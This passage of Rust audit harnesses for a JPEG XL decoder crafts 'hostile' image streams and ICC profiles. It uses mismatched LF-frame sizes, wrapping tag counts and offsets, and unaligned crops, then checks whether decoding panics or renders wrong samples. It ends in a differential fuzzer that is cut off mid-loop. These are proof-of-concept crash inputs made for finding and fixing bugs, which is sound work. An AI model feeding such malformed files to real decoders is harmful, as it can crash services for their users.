        for (l, t, w, h) in [(24u32, 28u32, 16u32, 4u32), (40, 40, 16, 16)] {
            let bytes2 = bytes.clone();
            let res = std::panic::catch_unwind(move || {
                let mut image = open(&bytes2);
                image.set_image_region(CropInfo { left: l, top: t, width: w, height: h });
                let part = render_planar(&image, 0);
                let (pw, _, pb) = &part[3];
                (0..*pw).map(|x| to_u8(pb[2 * pw + x])).collect::<Vec<i32>>()
            });
            match res {
                Ok(got) => println!("patches={with_patches}: region ({l},{t},{w},{h}) row {}: {got:?}", t + 2),
                Err(_) => println!("patches={with_patches}: region ({l},{t},{w},{h}): PANIC"),
            }
        }
    }
}

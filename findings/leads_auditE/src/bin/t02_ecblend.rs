use audit_e::*;

fn build(crop: Option<(i32, i32, u32, u32)>) -> Vec<u8> {
    let mut img = ImageSpec::rgb(4, 2);
    img.ec.push(EcSpec { ty: 1, dim_shift: 0, alpha_associated: false });
    let mut f0 = FrameSpec::new(&img);
    f0.is_last = false;
    f0.save_as_reference = 0;
    f0.fill(&img, |c, _, _| if c < 3 { 10 } else { 20 });
    let mut f1 = FrameSpec::new(&img);
    f1.crop = crop;
    f1.ec_blend[0].mode = 1; // Add
    f1.fill(&img, |c, _, _| if c < 3 { 30 } else { 5 });
    encode_image(&img, &[f0, f1])
}

fn main() {
    let a = build(None);
    let image = open(&a);
    dump("full frame: colour Replace, ec Add (expected ec=25)", &render_planar(&image, 0));
    let b = build(Some((1, 0, 3, 2)));
    let image = open(&b);
    dump("cropped frame x0=1 w=3: general path (ec=25 in cols 1..3)", &render_planar(&image, 0));
}

//! F5-a: a VarDCT frame with `use_lf_frame` whose size does not match the LF frame.
//!
//! Image: 64x64, XYB. Frame 0: LfFrame, lf_level = 1, Modular, 8x8 samples. Frame 1: Regular
//! VarDCT frame with `use_lf_frame`.
//!  * control: frame 1 has no crop (64x64 => 8x8 LF samples, one Dct64 varblock).
//!  * hostile: frame 1 has have_crop x0 = y0 = 0, width = height = 256 (one Dct256 varblock), so
//!    it needs 32x32 LF samples but the LF frame only has 8x8.
//!  * hostile 2: frame 1 has have_crop x0 = -256, y0 = 0, width = 512, height = 64 (eight Dct64
//!    varblocks, two groups); the group that covers the image starts at LF column 32.

mod jxlw;
use jxlw::*;

const DCT64: u8 = 18;
const DCT256: u8 = 24;

fn stream(crop: Option<(i32, i32, u32, u32)>, varblocks: &[(u8, i32)]) -> Vec<u8> {
    let img = ImageOpts {
        width: 64,
        height: 64,
        xyb: true,
        grey: false,
        num_extra: 0,
    };
    let mut bw = Bw::new();
    write_image_header(&mut bw, &img);

    // Frame 0: LF frame (Modular, XYB: channels are Y, X, B - Y), a diagonal luma ramp.
    let lf = FrameOpts {
        lf_frame: true,
        modular: true,
        flags: 0,
        crop: None,
    };
    let y: Vec<i32> = (0..64).map(|i| 40 + 8 * (i % 8 + i / 8)).collect();
    write_modular_frame(&mut bw, &img, &lf, &[y, vec![0; 64], vec![0; 64]]);
    bw.pad();

    // Frame 1: VarDCT, use_lf_frame.
    let hf = FrameOpts {
        lf_frame: false,
        modular: false,
        flags: USE_LF_FRAME,
        crop,
    };
    write_vardct_frame(
        &mut bw,
        &img,
        &hf,
        &VardctContent {
            coder: Coder::Flat,
            varblocks,
            ec_transform: EcTransform::None,
            ec_value: 0,
        },
    );
    bw.bytes
}

fn main() {
    install_panic_hook();
    let (c_panic, c_ok) = report(
        "control (64x64 frame, 8x8 LF frame)",
        &stream(None, &[(DCT64, 1)]),
    );
    let (h1_panic, _) = report(
        "hostile 1 (256x256 cropped frame at (0,0), 8x8 LF frame)",
        &stream(Some((0, 0, 256, 256)), &[(DCT256, 1)]),
    );
    // 512x64 frame at x0 = -256: the visible part is group 1, whose LF origin (32) is beyond the
    // LF frame's width (8).
    let (h2_panic, _) = report(
        "hostile 2 (512x64 cropped frame at (-256,0), 8x8 LF frame)",
        &stream(Some((-256, 0, 512, 64)), &[(DCT64, 1); 8]),
    );
    let h_panic = h1_panic || h2_panic;
    if c_panic || !c_ok {
        println!("UNEXPECTED: the control did not decode");
        std::process::exit(2);
    }
    if h_panic {
        println!("FAIL: hostile input panicked");
        std::process::exit(1);
    }
    println!("OK: hostile input did not panic");
}

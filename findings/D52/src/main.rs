use std::panic::catch_unwind;
// ICC profiles whose tag table makes the u32 arithmetic of parse_icc_raw wrap.
fn profile(tag_count: u32, first_tag: Option<(u32, u32)>) -> Vec<u8> {
    let mut p = vec![0u8; 0x84 + 12 * 4];
    let len = p.len() as u32;
    p[0..4].copy_from_slice(&len.to_be_bytes());
    p[8] = 4; // version 4
    p[12..16].copy_from_slice(b"mntr");
    p[16..20].copy_from_slice(b"RGB ");
    p[20..24].copy_from_slice(b"XYZ ");
    p[36..40].copy_from_slice(b"acsp");
    p[0x43] = 1;
    p[0x80..0x84].copy_from_slice(&tag_count.to_be_bytes());
    if let Some((off, size)) = first_tag {
        p[0x84..0x88].copy_from_slice(b"desc");
        p[0x88..0x8c].copy_from_slice(&off.to_be_bytes());
        p[0x8c..0x90].copy_from_slice(&size.to_be_bytes());
    }
    p
}
fn main() {
    let mut bad = false;
    for (label, p) in [
        ("control: 1 tag inside the profile", profile(1, Some((0x90, 4)))),
        ("tag_count = 0x15555556 (12 * n wraps to 8)", profile(0x1555_5556, None)),
        ("tag_count = 0xffffffff", profile(0xffff_ffff, None)),
        ("offset + size wraps (0xffffffff + 2)", profile(1, Some((0xffff_ffff, 2)))),
    ] {
        let r = catch_unwind(|| jxl_color::ColorEncodingWithProfile::with_icc(&p).map(|_| ()).map_err(|e| e.to_string()));
        match r {
            Ok(v) => println!("{label}: {v:?}"),
            Err(e) => { bad = true; println!("{label}: PANIC {:?}", e.downcast_ref::<String>().cloned().or_else(|| e.downcast_ref::<&str>().map(|s| s.to_string()))); }
        }
    }
    std::process::exit(if bad { 1 } else { 0 });
}

mod gen;
use gen::*;
use jxl_oxide::{InitializeResult, JxlImage, JxlThreadPool};
use std::panic::{catch_unwind, AssertUnwindSafe};
// An LfFrame with lf_level = 4 (use_lf_frame not set) as the frame being loaded: render_loading_frame() after every byte.
fn main() {
    let mut data = image_header();
    data.extend(all_zero_frame(FrameType::LfFrame, false));
    data.extend(all_zero_frame(FrameType::Regular, true));
    let mut uninit = JxlImage::builder().pool(JxlThreadPool::none()).build_uninit();
    let mut pending = Vec::new();
    let mut pos = 0usize;
    let mut image = loop {
        pending.push(data[pos]); pos += 1;
        let consumed = uninit.feed_bytes(&pending).expect("feed");
        pending.drain(..consumed);
        match uninit.try_init().expect("init") {
            InitializeResult::NeedMoreData(x) => uninit = x,
            InitializeResult::Initialized(x) => break x,
        }
    };
    let mut panicked = false;
    loop {
        let r = catch_unwind(AssertUnwindSafe(|| image.render_loading_frame().map(|_| ()).map_err(|e| e.to_string())));
        match r {
            Ok(Ok(())) => println!("byte {pos}: render_loading_frame Ok"),
            Ok(Err(e)) => println!("byte {pos}: Err({e})"),
            Err(p) => { panicked = true; println!("byte {pos}: PANIC {:?}", p.downcast_ref::<String>().cloned().or_else(|| p.downcast_ref::<&str>().map(|s| s.to_string()))); break; }
        }
        if pos == data.len() { break; }
        pending.push(data[pos]); pos += 1;
        match image.feed_bytes(&pending) { Ok(c) => { pending.drain(..c); } Err(e) => { println!("feed error at byte {pos}: {e}"); break; } }
    }
    std::process::exit(if panicked { 1 } else { 0 });
}

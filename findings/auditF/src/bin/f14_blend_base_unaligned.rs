//! F2: blend(): the base frame keeps, for an upsampled channel, pad_upsampling(requested region) aligned to 2^f in ITS
//! frame coordinates; the new frame's blend rectangle is aligned to 2^f in the NEW frame's coordinates. With x0/y0 of
//! the new frame not a multiple of 2^f the rectangle sticks out of the base buffer.
use audit_e::*;
fn pat(c: usize, x: u32, y: u32) -> i32 { ((x * 7 + y * 13 + (c as u32) * 31 + (x * y) % 5 * 9) % 100 + 20) as i32 }
fn main() {
    install_quiet_hook();
    for ds in [1u32, 3] {
        for (x0, y0) in [(0i32, 0i32), (8, 8), (2, 0), (4, 4), (1, 0), (0, 1), (3, 5), (-3, -5)] {
            let mut img = ImageSpec::rgb(32, 32);
            img.ec.push(EcSpec { ty: 1, dim_shift: ds, alpha_associated: false }); // depth channel, dim_shift ds
            let mut f0 = FrameSpec::new(&img);
            f0.is_last = false; f0.save_as_reference = 0;
            f0.fill(&img, pat);
            let mut f1 = FrameSpec::new(&img);
            f1.crop = Some((x0, y0, 24, 24));
            f1.blend = BlendSpec { mode: 1, source: 0, ..Default::default() };
            f1.ec_blend[0] = BlendSpec { mode: 1, source: 0, ..Default::default() };
            f1.fill(&img, pat);
            let bytes = encode_image(&img, &[f0, f1]);
            std::fs::write(format!("/tmp/jxlv_auditF_f14_ds{ds}_x{x0}_y{y0}.jxl"), &bytes).unwrap();
            let full = render_region(&bytes, 0, None).expect("full render");
            let (mut n, mut bad, mut pan) = (0, 0, 0); let mut first = None;
            for l in 0..16 { for t in 0..16 { for (w, h) in [(1, 1), (3, 2), (8, 8)] { n += 1; let r = (l, t, w, h);
                match render_region(&bytes, 0, Some(r)).map(|p| compare_region(&full, &p, r)) { Ok(None) => {}, Ok(Some(_)) => bad += 1, Err(e) => { pan += 1; if first.is_none() { first = Some((r, e)); } } } } } }
            println!("extra channel dim_shift={ds}, second frame 24x24 at ({x0},{y0}), kAdd: of {n} region renders {pan} panic, {bad} wrong samples{}", first.map(|(r, e)| format!("; first: region {r:?}: {e}")).unwrap_or_default());
        }
    }
}

//! F6/F7: frame with upsampling 2, extra channel with ec_upsampling 4 (or dim_shift 2), frame has patches.
use audit_e::*;
fn pat(c: usize, x: u32, y: u32) -> i32 { ((x * 7 + y * 13 + (c as u32) * 31 + (x * y) % 5 * 9) % 100 + 20) as i32 }

fn build(w: u32, h: u32, patch_mode_ec: u32, tx: i32, ty: i32, with_patch: bool) -> Vec<u8> {
    let mut img = ImageSpec::rgb(w, h);
    img.ec.push(EcSpec { ty: 1, dim_shift: 0, alpha_associated: false });
    let mut r = FrameSpec::new(&img);
    r.frame_type = 2; r.is_last = false; r.save_as_reference = 1; r.save_before_ct = true;
    r.crop = Some((0, 0, 8, 8));
    r.fill(&img, |_, _, _| 250);
    let mut f = FrameSpec::new(&img);
    f.upsampling = 2; f.ec_upsampling = vec![4];
    if with_patch {
        f.flags = 2;
        f.patches.push(PatchSpec { ref_idx: 1, x0: 0, y0: 0, width: 4, height: 4, targets: vec![(tx, ty, vec![patch_mode_ec, patch_mode_ec])] });
    }
    f.fill(&img, |c, x, y| if patch_mode_ec == 0 { pat(c, x, y) } else { 20 });
    encode_image(&img, &[r, f])
}

fn main() {
    install_quiet_hook();
    let (w, h) = (64u32, 64u32);
    println!("--- F7: full render; 4x4 Replace patch (value 250) on a constant-20 frame, colour coded at 32x32 (upsampling 2), extra channel at 16x16 (ec_upsampling 4)");
    for (tx, ty) in [(2, 2), (20, 20)] {
        let bytes = build(w, h, 1, tx, ty, true);
        let full = render_region(&bytes, 0, None).unwrap();
        let y = (ty as usize) * 2 + 3;
        for c in [0usize, 3] {
            let (fw, _, fb) = &full[c];
            let row: Vec<i32> = ((tx as usize * 2).saturating_sub(4)..(tx as usize * 2 + 12)).map(|x| to_u8(fb[y * fw + x])).collect();
            println!("patch target ({tx},{ty}) [frame px {}..{}]: channel {c} row {y}, x={}..{}: {row:?}", tx * 2, tx * 2 + 8, (tx as usize * 2).saturating_sub(4), tx * 2 + 12);
        }
    }
    println!("--- F6: region renders vs full render; patch with mode None on every channel (changes nothing)");
    for with_patch in [false, true] {
        let bytes = build(w, h, 0, 0, 0, with_patch);
        std::fs::write(format!("/tmp/jxlv_auditF_f05_patch{}.jxl", with_patch as u8), &bytes).unwrap();
        let full = render_region(&bytes, 0, None).unwrap();
        let mut bad = 0; let mut n = 0; let mut first: Option<((u32, u32, u32, u32), String)> = None; let mut kinds = std::collections::BTreeMap::new();
        for l in (0..56).step_by(3) { for t in (0..56).step_by(5) { for (rw, rh) in [(1u32, 1u32), (3, 2), (8, 8)] {
            n += 1;
            let r = (l, t, rw, rh);
            let res = match render_region(&bytes, 0, Some(r)) { Ok(p) => compare_region(&full, &p, r), Err(e) => Some(e) };
            if let Some(e) = res { bad += 1; let k: String = e.chars().filter(|c| !c.is_ascii_digit()).collect(); *kinds.entry(k.split(" first at").next().unwrap().to_string()).or_insert(0) += 1; if first.is_none() || e.contains("PANIC") && !first.as_ref().unwrap().1.contains("PANIC") { first = Some((r, e)); } }
        }}}
        println!("with_patches={with_patch}: {bad} of {n} region renders fail; kinds: {kinds:?}");
        if let Some((r, e)) = first { println!("   e.g. region {r:?}: {e}"); }
    }
    // F5: regions close to the frame origin, where the misplacement of F6 is not in play (the valid region starts at 0,0)
    println!("--- F5: regions near the origin (valid region starts at (0,0), so F6 does not interfere)");
    {
        let bytes = build(w, h, 0, 0, 0, true);
        let full = render_region(&bytes, 0, None).unwrap();
        let (mut n, mut bad, mut pan) = (0, 0, 0); let mut first = None;
        for l in 0..8u32 { for t in 0..8u32 { for (rw, rh) in [(1u32, 1u32), (2, 2), (4, 4)] { n += 1; let r = (l, t, rw, rh);
            match render_region(&bytes, 0, Some(r)).map(|p| compare_region(&full, &p, r)) { Ok(None) => {}, Ok(Some(e)) => { bad += 1; if first.is_none() { first = Some((r, e)); } }, Err(_) => pan += 1 } } } }
        println!("with_patches=true, left,top in 0..8: of {n} region renders {pan} panic, {bad} wrong samples; first: {first:?}");
    }
    // specific
    let bytes = build(w, h, 0, 0, 0, true);
    let full = render_region(&bytes, 0, None).unwrap();
    for r in [(24u32, 28u32, 16u32, 4u32), (40, 40, 16, 16), (32, 32, 1, 1), (33, 35, 2, 2)] {
        match render_region(&bytes, 0, Some(r)) { Ok(p) => println!("region {r:?}: {:?}", compare_region(&full, &p, r)), Err(e) => println!("region {r:?}: {e}") }
    }
}

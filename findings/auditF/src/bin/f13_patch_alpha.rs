//! F4: patch(): alpha planes (of the frame and of the patch source) are indexed with the coordinates of the channel
//! being blended; the colour planes of a Modular frame cover the whole frame, the upsampled alpha plane only the
//! padded requested region.
use audit_e::*;
fn pat(c: usize, x: u32, y: u32) -> i32 { ((x * 7 + y * 13 + (c as u32) * 31 + (x * y) % 5 * 9) % 100 + 20) as i32 }
fn main() {
    install_quiet_hook();
    for (name, ds, mode) in [("alpha dim_shift=1, patch mode 4 (kBlendAbove)", 1u32, 4u32), ("alpha dim_shift=1, patch mode 6 (kMulAddAbove)", 1, 6), ("control: alpha dim_shift=0, patch mode 4", 0, 4), ("control: alpha dim_shift=1, patch mode 1 (kReplace)", 1, 1)] {
        let mut img = ImageSpec::rgb(32, 32);
        img.ec.push(EcSpec { ty: 0, dim_shift: ds, alpha_associated: false });
        let mut r = FrameSpec::new(&img);
        r.frame_type = 2; r.is_last = false; r.save_as_reference = 1; r.save_before_ct = true;
        r.crop = Some((0, 0, 8, 8));
        r.fill(&img, |c, x, y| (130 + 10 * y + x + 3 * c as u32) as i32);
        let mut f = FrameSpec::new(&img);
        f.flags = 2;
        f.patches.push(PatchSpec { ref_idx: 1, x0: 1, y0: 1, width: 5, height: 3, targets: vec![(3, 5, vec![mode, mode])] });
        f.fill(&img, pat);
        let bytes = encode_image(&img, &[r, f]);
        std::fs::write(format!("/tmp/jxlv_auditF_f13_ds{ds}_mode{mode}.jxl"), &bytes).unwrap();
        println!("{name}: patch 5x3 at frame (3,5)");
        let full = render_region(&bytes, 0, None).expect("full render");
        for r in [(0u32, 0u32, 1u32, 1u32), (20, 20, 4, 4), (3, 6, 1, 1), (6, 5, 2, 2), (4, 5, 4, 3)] {
            let res = match render_region(&bytes, 0, Some(r)) { Ok(p) => compare_region(&full, &p, r).unwrap_or("match".into()), Err(e) => e };
            println!("  region {r:?}: {res}");
        }
        let (mut n, mut bad, mut pan) = (0, 0, 0);
        for l in 0..24 { for t in 0..24 { for (w, h) in [(1, 1), (3, 2), (8, 8)] { n += 1; let r = (l, t, w, h);
            match render_region(&bytes, 0, Some(r)).map(|p| compare_region(&full, &p, r)) { Ok(None) => {}, Ok(Some(_)) => bad += 1, Err(_) => pan += 1 } } } }
        println!("  sweep left,top in 0..24, sizes 1x1/3x2/8x8: of {n} region renders {pan} panic, {bad} return wrong samples");
    }
}

//! F2/F3 on colour channels: base frame with gaborish/EPF keeps only its own padded (and, with EPF, 8-aligned) region.
use audit_e::*;
fn pat(c: usize, x: u32, y: u32) -> i32 { ((x * 7 + y * 13 + (c as u32) * 31) % 100 + 20) as i32 }

fn build(bg_gab: bool, bg_epf: u32, fg_gab: bool, fg_epf: u32, fg_up: u32, crop: Option<(i32, i32, u32, u32)>) -> Vec<u8> {
    let img = ImageSpec::rgb(64, 64);
    let mut f0 = FrameSpec::new(&img);
    f0.is_last = false; f0.save_as_reference = 0;
    f0.gab = bg_gab; f0.epf_iters = bg_epf;
    f0.fill(&img, pat);
    let mut f1 = FrameSpec::new(&img);
    f1.upsampling = fg_up; f1.epf_iters = fg_epf; f1.gab = fg_gab; f1.crop = crop;
    f1.blend = BlendSpec { mode: 1, source: 0, ..Default::default() };
    f1.fill(&img, pat);
    encode_image(&img, &[f0, f1])
}

fn main() {
    install_quiet_hook();
    for (name, bg_gab, bg_epf, fg_gab, fg_epf, fg_up, crop) in [
        ("control: bg gab, fg gab, no crop", true, 0u32, true, 0u32, 1u32, None),
        ("bg gab, fg gab, fg at (3,5)", true, 0, true, 0, 1, Some((3, 5, 50, 50))),
        ("bg epf1, fg epf1, no crop", false, 1, false, 1, 1, None),
        ("bg epf1, fg epf1, fg at (8,16)", false, 1, false, 1, 1, Some((8, 16, 40, 40))),
        ("bg epf1, fg epf1, fg at (3,5)", false, 1, false, 1, 1, Some((3, 5, 50, 50))),
        ("bg gab, fg epf1, no crop", true, 0, false, 1, 1, None),
        ("bg gab, fg upsampling 2, no crop", true, 0, false, 0, 2, None),
        ("bg gab, fg plain, fg at (3,5)", true, 0, false, 0, 1, Some((3, 5, 50, 50))),
    ] {
        let bytes = build(bg_gab, bg_epf, fg_gab, fg_epf, fg_up, crop);
        let full = render_region(&bytes, 0, None).expect("full render");
        let mut out = vec![];
        for r in [(0u32, 0u32, 8u32, 8u32), (16, 16, 16, 16), (24, 24, 8, 8), (21, 19, 3, 5)] {
            let res = match render_region(&bytes, 0, Some(r)) { Ok(p) => compare_region(&full, &p, r).unwrap_or("match".into()), Err(e) => e };
            out.push(format!("  region {r:?}: {res}"));
        }
        println!("{name}\n{}", out.join("\n"));
    }
}

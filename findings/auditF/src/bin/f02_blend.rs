//! Two-frame scenarios: background + cropped frame at odd/negative offsets, blended; channels with different sampling.
use audit_e::*;

fn pat(c: usize, x: u32, y: u32) -> i32 { ((x * 7 + y * 13 + (c as u32) * 31 + (x * y) % 5 * 9) % 200 + 20) as i32 }
fn pat2(c: usize, x: u32, y: u32) -> i32 { ((x * 11 + y * 5 + (c as u32) * 17 + (x + y) % 3 * 20) % 180 + 30) as i32 }

struct Cfg { bg_up: u32, bg_ecup: u32, fg_up: u32, fg_ecup: u32, ds: u32, mode: u32, ec_ty: u32, crop: Option<(i32, i32, u32, u32)>, gab: bool, epf: u32 }

fn build(w: u32, h: u32, c: &Cfg) -> Vec<u8> {
    let mut img = ImageSpec::rgb(w, h);
    img.ec.push(EcSpec { ty: c.ec_ty, dim_shift: c.ds, alpha_associated: false });
    let mut f0 = FrameSpec::new(&img);
    f0.is_last = false; f0.save_as_reference = 0;
    f0.upsampling = c.bg_up; f0.ec_upsampling = vec![c.bg_ecup];
    f0.fill(&img, pat);
    let mut f1 = FrameSpec::new(&img);
    f1.crop = c.crop;
    f1.upsampling = c.fg_up; f1.ec_upsampling = vec![c.fg_ecup];
    f1.gab = c.gab; f1.epf_iters = c.epf;
    f1.blend = BlendSpec { mode: c.mode, alpha_channel: 0, clamp: false, source: 0 };
    f1.ec_blend[0] = BlendSpec { mode: c.mode, alpha_channel: 0, clamp: false, source: 0 };
    f1.fill(&img, pat2);
    encode_image(&img, &[f0, f1])
}

fn main() {
    let only: Option<String> = std::env::args().nth(1);
    let (w, h) = (32u32, 32u32);
    let crops = [None, Some((3, 5, 20, 18)), Some((-3, -5, 21, 19)), Some((4, 8, 16, 16)), Some((1, 1, 31, 31)), Some((9, 7, 30, 30))];
    let samplings: [(u32, u32, u32, u32, u32); 12] = [
        // bg_up, bg_ecup, fg_up, fg_ecup, ds
        (1, 1, 1, 1, 0), (1, 1, 1, 2, 0), (1, 1, 1, 1, 1), (1, 1, 2, 2, 0), (2, 2, 1, 1, 0), (1, 1, 2, 4, 0),
        (1, 1, 8, 8, 0), (2, 2, 8, 8, 0), (1, 2, 1, 1, 0), (1, 1, 1, 1, 2), (2, 1, 2, 1, 1), (1, 1, 4, 1, 3),
    ];
    let mut n = 0;
    for &(bg_up, bg_ecup, fg_up, fg_ecup, ds) in &samplings {
        for crop in crops {
            for (mode, ec_ty) in [(1u32, 1u32), (2, 0)] {
                for (gab, epf) in [(false, 0u32), (true, 0), (false, 2)] {
                    if (gab || epf > 0) && !(crop == Some((3, 5, 20, 18)) && mode == 1) { continue; }
                    let cs = match crop { None => "none".to_string(), Some((a, b, c, d)) => format!("{a},{b},{c},{d}") }; let name = format!("bg{bg_up}/{bg_ecup}_fg{fg_up}/{fg_ecup}_ds{ds}_mode{mode}_crop({cs})_gab{}_epf{epf}", gab as u8);
                    n += 1;
                    if let Some(o) = &only { if !name.contains(o.as_str()) { continue; } }
                    let cfg = Cfg { bg_up, bg_ecup, fg_up, fg_ecup, ds, mode, ec_ty, crop, gab, epf };
                    let bytes = match std::panic::catch_unwind(|| build(w, h, &cfg)) { Ok(b) => b, Err(_) => { println!("[{name}] encoder refused"); continue; } };
                    sweep(&name, &bytes, 0..8, 0..8, 1..9, 1..6, w, h);
                }
            }
        }
    }
    eprintln!("{n} scenarios");
}

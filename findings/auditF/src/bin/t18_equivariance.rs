use audit_e::*;
// Translation equivariance: the same frame (alpha coded at half resolution, colour at full resolution, gaborish optional) blended onto a
// constant background at different offsets must give the same picture in frame coordinates.
fn profile(gab: bool, ups: u32, x0: i32, y0: i32) -> Vec<Vec<i32>> {
    let mut img = ImageSpec::rgb(40, 40);
    img.ec.push(EcSpec { ty: 0, dim_shift: 0, alpha_associated: false });
    let mut f0 = FrameSpec::new(&img);
    f0.is_last = false; f0.save_as_reference = 0;
    f0.fill(&img, |c, _, _| if c < 3 { 50 } else { 255 });
    let mut f1 = FrameSpec::new(&img);
    f1.crop = Some((x0, y0, 24, 24));
    f1.ec_upsampling = vec![ups];
    f1.gab = gab;
    f1.blend = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 0 };
    f1.ec_blend[0] = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 0 };
    // constant colour; alpha = a diagonal step pattern (in the coded, possibly half-resolution, alpha plane)
    f1.fill(&img, |c, x, y| if c < 3 { 200 } else if (x + 2 * y) % 7 < 3 { 255 } else { 0 });
    let bytes = encode_image(&img, &[f0, f1]);
    let image = open(&bytes);
    let full = render_planar(&image, 0);
    let (fw, fh, fb) = &full[0];
    // frame coordinates 12..20 x 12..20 are inside the canvas for every offset used below
    (12..20).map(|fy| (12..20).map(|fx| {
        let (cx, cy) = (fx + x0, fy + y0);
        assert!(cx >= 0 && cy >= 0 && (cx as usize) < *fw && (cy as usize) < *fh);
        to_u8(fb[cy as usize * fw + cx as usize])
    }).collect()).collect()
}
fn main() {
    let mut bad = 0;
    for gab in [false, true] { for ups in [1u32, 2, 4] {
        let reference = profile(gab, ups, 0, 0);
        for (x0, y0) in [(0, -8), (0, -7), (0, -5), (-3, 0), (-7, -7), (-4, -4), (3, 5), (8, 8), (-9, 4)] {
            let p = std::panic::catch_unwind(|| profile(gab, ups, x0, y0));
            let ok = matches!(&p, Ok(p) if *p == reference);
            if !ok { bad += 1; }
            println!("gab={gab} alpha_ups={ups} offset=({x0},{y0}): {}", match &p { Ok(_) if ok => "same as at (0,0)".to_string(), Ok(p) => format!("DIFFERS row0 {:?} vs {:?}", p[0], reference[0]), Err(_) => "PANIC".into() });
        }
    }}
    println!("mismatches: {bad}");
    std::process::exit(if bad == 0 { 0 } else { 1 });
}

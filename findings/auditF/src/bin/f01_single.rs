//! Single-frame scenarios: extra channels with dim_shift, frame upsampling, ec_upsampling.
use audit_e::*;

fn pat(c: usize, x: u32, y: u32) -> i32 { ((x * 7 + y * 13 + (c as u32) * 31 + (x * y) % 5 * 9) % 200 + 20) as i32 }

fn main() {
    let only: Option<String> = std::env::args().nth(1);
    let run = |name: &str| only.as_ref().map(|o| name.starts_with(o.as_str())).unwrap_or(true);
    for (w, h) in [(32u32, 32u32), (29, 27)] {
        for ds in 1..=3u32 {
            let name = format!("A_dimshift{ds}_{w}x{h}");
            if !run(&name) { continue; }
            let mut img = ImageSpec::rgb(w, h);
            img.ec.push(EcSpec { ty: 1, dim_shift: ds, alpha_associated: false });
            let mut f = FrameSpec::new(&img);
            f.fill(&img, pat);
            let bytes = encode_image(&img, &[f]);
            sweep(&name, &bytes, 0..8, 0..8, 1..9, 1..9, w, h);
        }
        for up in [2u32, 4, 8] {
            let name = format!("B_upsampling{up}_{w}x{h}");
            if !run(&name) { continue; }
            let img = ImageSpec::rgb(w, h);
            let mut f = FrameSpec::new(&img);
            f.upsampling = up;
            f.fill(&img, pat);
            let bytes = encode_image(&img, &[f]);
            sweep(&name, &bytes, 0..8, 0..8, 1..9, 1..9, w, h);
            // bottom right corner too
            sweep(&format!("{name}_br"), &bytes, w - 12..w, h - 12..h, 1..9, 1..9, w, h);
        }
        for (up, ecup, ds) in [(1u32, 2u32, 0u32), (1, 4, 0), (1, 2, 1), (2, 2, 0), (2, 4, 0), (2, 1, 1), (2, 1, 2), (2, 2, 1), (4, 8, 0), (4, 1, 3), (2, 8, 0)] {
            let name = format!("C_up{up}_ecup{ecup}_ds{ds}_{w}x{h}");
            if !run(&name) { continue; }
            let mut img = ImageSpec::rgb(w, h);
            img.ec.push(EcSpec { ty: 1, dim_shift: ds, alpha_associated: false });
            let mut f = FrameSpec::new(&img);
            f.upsampling = up;
            f.ec_upsampling = vec![ecup];
            f.fill(&img, pat);
            let bytes = encode_image(&img, &[f]);
            sweep(&name, &bytes, 0..8, 0..8, 1..9, 1..9, w, h);
            sweep(&format!("{name}_br"), &bytes, w - 12..w, h - 12..h, 1..9, 1..9, w, h);
        }
    }
}

//! Differential fuzzer: random multi-frame Modular files vs. an independent compositing model.
use audit_e::*;

struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 { self.0 ^= self.0 << 13; self.0 ^= self.0 >> 7; self.0 ^= self.0 << 17; self.0 }
    fn below(&mut self, n: u64) -> u64 { self.next() % n }
    fn range(&mut self, lo: i64, hi: i64) -> i64 { lo + (self.next() % ((hi - lo + 1) as u64)) as i64 }
    fn chance(&mut self, pct: u64) -> bool { self.below(100) < pct }
}

#[derive(Clone)]
struct Plane { w: i32, h: i32, x0: i32, y0: i32, ch: Vec<Vec<f32>> } // origin (x0,y0) in canvas coords
impl Plane {
    fn get(&self, c: usize, x: i32, y: i32) -> f32 { // canvas coords
        let (lx, ly) = (x - self.x0, y - self.y0);
        if lx < 0 || ly < 0 || lx >= self.w || ly >= self.h { 0.0 } else { self.ch[c][(ly * self.w + lx) as usize] }
    }
}

fn flag(name: &str) -> bool { std::env::var(name).is_ok() }

fn gen(rng: &mut Rng) -> (ImageSpec, Vec<FrameSpec>) {
    let diff = flag("DIFF");
    let big = diff && flag("BIG") && rng.chance(50);
    let maxdim = if big { 300 } else { 40 };
    let w = rng.range(8, maxdim) as u32;
    let h = rng.range(8, maxdim) as u32;
    let mut img = ImageSpec::rgb(w, h);
    img.gray = rng.chance(20);
    if diff && flag("ORIENT") { img.orientation = rng.range(1, 8) as u32; }
    img.animation = rng.chance(60);
    img.modular_16bit = rng.chance(50);
    let nec = rng.below(3) as usize;
    for _ in 0..nec {
        let ty = if rng.chance(60) { 0 } else { 1 };
        let dim_shift = if diff && flag("DIMSHIFT") && rng.chance(40) { rng.range(1, 2) as u32 } else { 0 };
        img.ec.push(EcSpec { ty, dim_shift, alpha_associated: ty == 0 && rng.chance(40) });
    }
    let alphas: Vec<u32> = img.ec.iter().enumerate().filter(|(_, e)| e.ty == 0).map(|(i, _)| i as u32).collect();
    let nframes = rng.range(1, 5) as usize;
    let mut frames = Vec::new();
    let mut refonly_slots: Vec<(u32, u32, u32)> = Vec::new(); // slot, w, h
    let mut filled: Vec<u32> = Vec::new(); // slots holding a blended canvas
    for i in 0..nframes {
        let mut f = FrameSpec::new(&img);
        let last = i == nframes - 1;
        f.is_last = last;
        if big { f.group_size_shift = 0; }
        if diff && flag("GAB") && rng.chance(30) { f.gab = true; }
        let gabconst = flag("GABCONST") && rng.chance(50);
        if gabconst { f.gab = true; }
        if flag("EPFCONST") && rng.chance(40) { f.epf_iters = rng.range(1, 3) as u32; f.gab = true; }
        let constcol = f.gab || f.epf_iters > 0;
        if diff && flag("YCBCR") && !img.gray && rng.chance(50) {
            f.do_ycbcr = true;
            f.jpeg_upsampling = match rng.below(5) { 0 => [0, 0, 0], 1 => [0, 1, 0], 2 => [0, 2, 0], 3 => [0, 3, 0], _ => [1, 0, 1] };
        }
        if diff && flag("EPF") && rng.chance(40) { f.epf_iters = rng.range(1, 3) as u32; }
        if diff && flag("UPS") && rng.chance(40) {
            f.upsampling = 1 << rng.below(4);
        }
        if diff && (flag("UPS") || flag("DIMSHIFT")) {
            for e in 0..img.ec.len() {
                let ds = img.ec[e].dim_shift;
                let cs = f.upsampling.trailing_zeros();
                let es_min = cs.saturating_sub(ds);
                let mut es = es_min;
                if flag("UPS") && rng.chance(40) { es += rng.below(3) as u32; }
                while es > es_min && (es > 3 || es + ds - cs >= 3) { es -= 1; }
                assert!(es <= 3 && es + ds >= cs);
